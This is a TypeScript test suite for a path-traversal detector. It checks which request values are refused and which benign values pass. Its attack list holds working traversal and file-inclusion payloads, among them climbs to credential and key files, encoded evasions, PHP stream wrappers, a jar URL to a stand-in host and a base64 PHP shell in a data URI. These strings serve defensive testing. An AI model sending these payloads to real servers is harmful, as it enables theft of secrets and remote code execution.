import { test } from 'node:test';
import assert from 'node:assert/strict';
import { detectTraversal, nameSuggestsFile } from '../src/threats/detectors/traversal.js';
import type { DetectContext, Hit, InputLocation, Paranoia } from '../src/threats/types.js';
import { assertCheap } from './threats-timing.js';

function run(value: string, paranoia: Paranoia = 1, location: InputLocation = 'query', name = 'q'): Hit | undefined {
  const ctx: DetectContext = { paranoia, location, name, isKey: false };
  return detectTraversal(value, value.toLowerCase(), ctx);
}

/** Refused on its own at paranoia 1. */
function blocks(value: string, location: InputLocation = 'query', name = 'q'): boolean {
  const h = run(value, 1, location, name);
  return h !== undefined && h.paranoia === 1 && h.severity >= 5;
}

// Attacks that must be refused at paranoia 1 (query/form values, already URL-decoded by the engine).
const ATTACKS: readonly string[] = [
  // climbing to well-known targets, Unix and Windows separators
  '../../../etc/passwd',
  '../../../../../../etc/shadow',
  '..\\..\\..\\windows\\win.ini',
  '..\\..\\..\\..\\boot.ini',
  '../../../../../../../../usr/local/apps/apache2/conf/httpd.conf',
  '../../WEB-INF/web.xml',
  '../../.env',
  '../.history',
  'cat ../../../../etc/passwd',
  // climbing alone, repeated or from the root
  '../../../tmp/x',
  '/../../../../{file}',
  '/..',
  '/../x',
  '\\..\\..\\x',
  // obfuscated climbs
  '....//....//....//etc/passwd',
  '....\\\\....\\\\....\\\\windows\\\\win.ini',
  '..;/..;/..;/admin',
  '..;.\\.;\\.',
  '.../.../.../WINDOWS/win.ini',
  '..\\/..\\/..\\/etc/passwd',
  '../ ../ ../etc/passwd',
  '/./../../../.{file}',
  '//../../../..{file}',
  '/..0x2f..0x2f..0x2f{file}',
  '0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fpasswd',
  '..%c0%af..%c0%af..%c0%afetc%c0%afpasswd',
  '.%2e/.%2e/.%2e/etc/passwd',
  '%252e%252e%252f%252e%252e%252fetc%252fpasswd',
  '..\u2215..\u2215..\u2215etc\u2215passwd',
  '..\uff0f..\uff0fetc\uff0fpasswd',
  // separators lost to stripslashes()
  '........................etcpasswd',
  '......web-infweb.xml',
  'c:windowswin.ini',
  'd:inetpubwwwrootglobal.asa',
  // absolute paths to sensitive files
  '/etc/passwd',
  '/etc/shadow',
  '/etc/master.passwd',
  '/etc/subuid-',
  'cat /etc/subuid',
  '/proc/self/environ',
  '/proc/self/cmdline',
  '/proc/1/maps',
  '/proc/net/tcp',
  '/sys/class/net',
  '/root/.ssh/id_rsa',
  '~/.ssh/id_rsa',
  '/root/.aws/credentials',
  '/path/to/.docker/secrets',
  '.ssh/id_rsa',
  'WEB-INF/web.xml',
  '.git/config',
  'c:\\boot.ini',
  'C:\\Windows\\win.ini',
  'c:/windows/system32/config/sam',
  'C:\\inetpub\\wwwroot\\global.asa',
  '/etc/passwd\u0000.jpg',
  // Windows device and admin-share paths
  '\\\\?\\C:\\Windows\\win.ini',
  '\\\\.\\pipe\\secret',
  '\\\\fileserver\\c$\\secrets.txt',
  '\\\\10.0.0.5\\admin$',
  // file URLs and inclusion wrappers
  'file:///etc/passwd',
  'file:/etc/passwd',
  'file:/c:/windows/win.ini',
  'file://localhost/c:/windows/win.ini',
  'url:file:///etc/passwd',
  'local_file:///etc/passwd',
  'php://filter/convert.base64-encode/resource=index.php',
  'php://input',
  'PHP://filter/read=string.rot13/resource=config.php',
  'phar://uploads/avatar.jpg/shell.php',
  'zip://uploads/a.zip#shell.php',
  'compress.zlib://index.php',
  'expect://id',
  'jar:http://evil.example/a.jar!/x.class',
  'data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==',
  'data:text/plain;base64,SSBsb3ZlIFBIUAo=',
];

for (const a of ATTACKS) {
  test(`traversal blocks ${JSON.stringify(a)}`, () => {
    const h = run(a);
    assert.ok(h !== undefined && h.paranoia === 1 && h.severity >= 5, `not blocked: ${JSON.stringify(h)}`);
    assert.equal(h.category, 'traversal');
    assert.ok(h.detector.startsWith('traversal.'));
    assert.ok(h.evidence.length <= 40);
  });
}

// Benign near misses: must not be refused at paranoia 1.
const BENIGN: readonly string[] = [
  'hello world',
  "O'Brien",
  'select a plan',
  '1 - 2',
  'john.doe@example.com',
  'See section 3.2.1 for details.',
  'Loading...',
  'Wait... what?',
  '....and then it stopped',
  'a/.../b',
  '3.14159',
  '$1,299.99',
  '2024/01/15',
  '12:30',
  '+34 600 123 456',
  '../images/logo.png',
  '../../styles/main.css',
  'the ../ operator moves up one directory',
  '# Title\n\nSee [the readme](../README.md).',
  'x/../y',
  'cd .. && ls',
  './src/index.ts',
  'src/components/Button.tsx',
  'node_modules/.bin/tsc',
  '/api/v1/users/42',
  '/files/{file}',
  '/usr/local/bin/node',
  '/var/www/html/index.php',
  '/tmp/upload.txt',
  'C:\\Program Files\\App\\app.exe',
  'C:\\Users\\maria\\Documents\\report.docx',
  'D:\\data\\2023\\sales.csv',
  'C:\\Windows\\System32',
  '\\\\server\\share\\doc.txt',
  'https://example.com/docs/guide.html',
  'https://example.com/a/../b',
  '//cdn.example.com/lib.js',
  'https://medium.com/@user/post-title',
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk',
  'file: report.pdf',
  'report.final.v2.pdf',
  '.gitignore',
  '.env',
  'boot.ini',
  'My password is in etc',
  'etc. and so on',
  '{"path":"/home/user","mode":"rw"}',
  '$hash{key}=[1,2,3]',
  'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
  'gzip, deflate, br',
  'Calle Mayor 5, 2ºB, 28013 Madrid',
  'c/ caridad s/n',
  'El niño comió... y luego durmió.',
  'for (i = 0; i < n; i++) { a[i] = b[i] / 2; }',
  'version 1.0...2.0',
  '0x10',
];

for (const b of BENIGN) {
  test(`traversal lets through ${JSON.stringify(b.slice(0, 60))}`, () => {
    assert.equal(blocks(b), false, JSON.stringify(run(b)));
  });
}

test('ambiguous relative climbs count only at higher paranoia', () => {
  const one = run('../images/logo.png', 4);
  assert.ok(one !== undefined && one.paranoia >= 2);
  const two = run('../../styles/main.css', 4);
  assert.ok(two !== undefined && two.paranoia === 2);
  assert.equal(run('x/../y', 4), undefined);
  const bare = run('.htaccess', 4);
  assert.ok(bare !== undefined && bare.paranoia === 2);
});

test('a single climb is enough in a file-like parameter or an upload filename', () => {
  assert.equal(blocks('../report.pdf', 'query', 'file'), true);
  assert.equal(blocks('../report.pdf', 'query', 'templatePath'), true);
  assert.equal(blocks('../1.7z', 'multipart', 'upload.filename'), true);
  assert.equal(blocks('..\\1.7z', 'multipart', 'upload.filename'), true);
  assert.equal(blocks('../report.pdf', 'query', 'comment'), false);
  // … as the whole value: one level up inside running text is a relative link (markdown)
  assert.equal(blocks('  ../report.pdf ', 'body', 'content'), true);
  assert.equal(blocks('2. See [../setup/README.md](../setup/README.md) for PATH tips.', 'body', 'content'), false);
  assert.equal(blocks('See ../../secret/report.pdf for it', 'body', 'content'), true);
});

test('a system file named in running text is a notice; as the value, after a command or a climb it is refused', () => {
  for (const prose of ['Puppet module for managing /etc/hosts file', 'read GECOS entries from /etc/passwd programmatically', 'Parse /etc/os-release files on Linux distributions']) {
    assert.equal(blocks(prose), false, prose);
    assert.equal(run(prose, 2)?.detector, 'traversal.sensitive-file', prose);
  }
  for (const attack of ['/etc/passwd', 'cat /etc/passwd', 'x ../../etc/passwd y', 'see file:///etc/passwd now']) assert.equal(blocks(attack), true, attack);
  // an error message quoting an absolute path to a secrets file is text too; the path alone is not
  assert.equal(blocks("Error: ENOENT: no such file or directory, open '/var/www/app/.env'"), false);
  assert.equal(blocks('/var/www/app/.env'), true);
  // mounted secrets and key files in a secrets directory
  for (const attack of ['/run/secrets/db_password', '/var/run/secrets/kubernetes.io/serviceaccount/token', '@/var/jenkins_home/secrets/master.key']) assert.equal(blocks(attack), true, attack);
  for (const prose of ['/blog/secrets/of-success', 'Top 10 secrets of success', '/run/user/1000']) assert.equal(blocks(prose), false, prose);
  // in a parameter that names a file, or in the request path, a mention is still the path
  assert.equal(blocks('managing the /etc/hosts file', 'query', 'file'), true);
  // a backslash climb is never how a web client spells a relative link
  assert.equal(blocks('..\\pineapple'), true);
});

test('request path: hidden and leaked files, but not ordinary routes', () => {
  for (const p of ['/.env', '/.git/config', '/@fs/etc/passwd', '/wp-content/debug.log', '/backup.sql.zip', '/.aws/credentials', '/get/sys/class', '/get/proc/interrupts', '/.claude/settings.json', '.env']) {
    assert.equal(blocks(p, 'path', ''), true, p);
  }
  for (const p of ['/.well-known/openid-configuration', '/static/app.js', '/get/..', '/get/foo../1234', '/get/foo.../1234', '/get/..foo', '/api/users/me', '/jquery.history.min.js', '/node_modules/@osd/ui-framework/dist/kui_light.css']) {
    assert.equal(blocks(p, 'path', ''), false, p);
  }
});

test('parameter names that suggest a file', () => {
  assert.equal(nameSuggestsFile('file'), true);
  assert.equal(nameSuggestsFile('templatePath'), true);
  assert.equal(nameSuggestsFile('mosConfig_absolute_path'), true);
  assert.equal(nameSuggestsFile('redirect'), false);
  assert.equal(nameSuggestsFile('direction'), false);
  assert.equal(nameSuggestsFile(''), false);
});

test('keys are inspected too', () => {
  const h = detectTraversal('/sys/class', '/sys/class', { paranoia: 1, location: 'query', name: '/sys/class', isKey: true });
  assert.ok(h !== undefined && h.paranoia === 1 && h.severity >= 5);
});

test('never throws on odd input', () => {
  const odd = ['', '.', '/', '\\', ':', '{', '{}', '..', '\u0000', '%', '%c0', '%u', '0x', '\\\\', '\\\\?', 'a:', 'file:', 'php:', 'data:', 'jar:', '\ud800', '~'];
  for (const v of odd) assert.doesNotThrow(() => run(v, 4), v);
});


test('linear time on pathological input (100 KB)', () => {
  const units = ['../', '..\\', '.', '....//', '[', '0x', '0x2e', '/', '\\\\', '%2e', '%c0%af', '..;', ':', 'a:', 'file:', 'http://', '{file}/', '{', '/.', '.a/', 'a.b ', '[::', '~/', 'x{a}', 'c:'];
  for (const u of units) {
    const v = u.repeat(Math.ceil(100_000 / u.length)).slice(0, 100_000);
    for (const loc of ['query', 'path'] as const) {
      const ctx: DetectContext = { paranoia: 4, location: loc, name: 'file', isKey: false };
      assertCheap(`${JSON.stringify(u)} in ${loc}`, (s) => detectTraversal(s, s.toLowerCase(), ctx), v, { ceilingMs: 80, runs: 3 });
    }
  }
});
